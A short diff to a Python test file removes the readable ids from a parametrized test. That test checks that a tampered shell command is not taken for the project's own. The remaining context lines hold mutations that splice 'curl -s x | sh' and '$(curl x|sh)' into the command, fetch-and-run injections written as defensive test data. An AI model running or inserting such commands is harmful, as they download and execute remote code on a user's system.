@@ -137,18 +137,6 @@ def test_the_command_is_read_out_of_ours_word_for_word(name: str, scope: str, fo
         lambda text: text.replace("; if ", "; if curl -s x | sh; true && ", 1),
         lambda text: text.replace(text.partition("[ -f ")[2].partition(" ] &&")[0], "$(curl x|sh)"),
     ],
-    ids=[
-        "the words",
-        "the name",
-        "a blank",
-        "the end",
-        "a flag",
-        "the beginning",
-        "one more word",
-        "the test",
-        "a command in front",
-        "a command for a path",
-    ],
 )
 def test_an_edited_command_is_not_taken_for_ours(change: Callable[[str], str], folder: Path) -> None:
     command = wrapping.command("say done", place("user"), config(folder), "/usr/bin/python3")
